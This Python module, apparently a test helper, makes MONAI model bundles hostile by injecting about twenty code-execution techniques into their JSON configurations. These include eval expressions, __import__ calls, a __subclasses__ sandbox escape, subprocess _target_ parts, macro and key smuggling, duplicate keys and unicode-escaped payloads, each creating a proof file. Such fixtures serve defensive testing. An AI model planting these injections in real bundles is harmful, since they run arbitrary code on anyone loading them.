"""Bundles that leave a file behind when anything of them is evaluated: the file is the proof.

In: a bundle's folder, the name of a configuration, the file to be made. Out: the same folder, hostile. Each way works
with MONAI's parser, and each keeps the network as it was, so a bundle that is trusted opens and runs.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

Change = Callable[[dict[str, Any], str], Any]
"""(content of a configuration, path of the file to be made); gives text where JSON of the content is not wanted."""


def _at(place: str, value: Callable[[str], Any]) -> Change:
    """A value for a key of the network's definition that MONAI evaluates, and gives to nobody."""

    def change(content: dict[str, Any], mark: str) -> None:
        content["network_def"][place] = value(mark)

    return change


def _top(key: str, value: Callable[[str], Any]) -> Change:
    def change(content: dict[str, Any], mark: str) -> None:
        content[key] = value(mark)

    return change


def _twice(content: dict[str, Any], mark: str) -> str:
    text = json.dumps(content)
    again = {**content["network_def"], "_desc_": f"$open({mark!r}, 'w')"}
    return f'{text[:-1]}, "network_def": {json.dumps(again)}}}'


def _escaped(content: dict[str, Any], mark: str) -> str:
    content["network_def"]["_desc_"] = f"$open({mark!r}, 'w')"
    return json.dumps(content).replace("$open", "\\u0024\\u006fpen")


def _macro(content: dict[str, Any], mark: str) -> None:
    other = Path(mark).with_name("other.json")
    other.write_text(json.dumps({"value": f"$open({mark!r}, 'w')"}))
    content["network_def"]["_desc_"] = f"%{other}::value"


def _relative(content: dict[str, Any], mark: str) -> None:
    """MONAI puts the names of the keys above into a relative reference, and evaluates what that makes."""
    content["seen"] = {"seen": 1}
    key = f"seen and open({mark!r}, 'w') and @seen"
    content["network_def"]["_desc_"] = {"seen": 1, key: {"value": "$@#seen"}}


_CLIMB = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__"
_EXPORT = "monai.bundle.ConfigParser.export_config_file"
HARMS: Mapping[str, Change] = {
    "an expression": _at("_disabled_", lambda mark: f"$bool(open({mark!r}, 'w')) and False"),
    "an expression that imports": _at("_disabled_", lambda mark: f"$__import__('os').mknod({mark!r})"),
    "an expression that climbs through attributes": _at("_disabled_", lambda mark: f"${_CLIMB}['mkdir']({mark!r})"),
    "an expression in a lambda": _at("_disabled_", lambda mark: f"$(lambda: open({mark!r}, 'w'))() is None"),
    "an expression in a text": _at("_disabled_", lambda mark: f"$f\"{{open({mark!r}, 'w')}}\" == ''"),
    "a library's function in an expression": _at("_disabled_", lambda mark: f"$torch.save(0, {mark!r}) is not None"),
    "a module behind a library": _at("_disabled_", lambda mark: f"$monai.utils.module.os.mknod({mark!r})"),
    "an expression in a description": _at("_desc_", lambda mark: f"$open({mark!r}, 'w')"),
    "an expression in a list of a description": _at("_desc_", lambda mark: [[f"$open({mark!r}, 'w')"]]),
    "a requirement": _at("_requires_", lambda mark: f"$open({mark!r}, 'w')"),
    "a part that opens a file": _at("_desc_", lambda mark: {"_target_": "builtins.open", "file": mark, "mode": "w"}),
    "a part that runs a program": _at("_desc_", lambda mark: {"_target_": "subprocess.call", "args": ["touch", mark]}),
    "a part that writes a pickle": _at("_desc_", lambda mark: {"_target_": "torch.save", "obj": 0, "f": mark}),
    "a part of MONAI that writes": _at("_desc_", lambda mark: {"_target_": _EXPORT, "config": {}, "filepath": mark}),
    "a part under a path of keys": _top("network_def#_desc_", lambda mark: {"_target_": "os.mkdir", "path": mark}),
    "a part that is merged in": _top("+network_def", lambda mark: {"_desc_": {"_target_": "os.mkdir", "path": mark}}),
    "a macro of another file": _macro,
    "a key that becomes part of an expression": _relative,
    "a key that occurs twice": _twice,
    "an expression in escapes": _escaped,
}


def make_hostile(root: Path, config: str, harm: str, mark: Path) -> Path:
    """The bundle at `root` with a configuration that would make the file `mark`.

    Args:
        root: of a bundle whose configurations are well.
        config: name of one of them, such as `inference`.
        harm: key of `HARMS`.
        mark: file that is made when the configuration is evaluated; lies beside nothing that matters.
    """
    path = root / "configs" / f"{config}.json"
    content = json.loads(path.read_text(encoding="utf-8"))
    text = HARMS[harm](content, str(mark))
    path.write_text(text or json.dumps(content), encoding="utf-8")
    return root
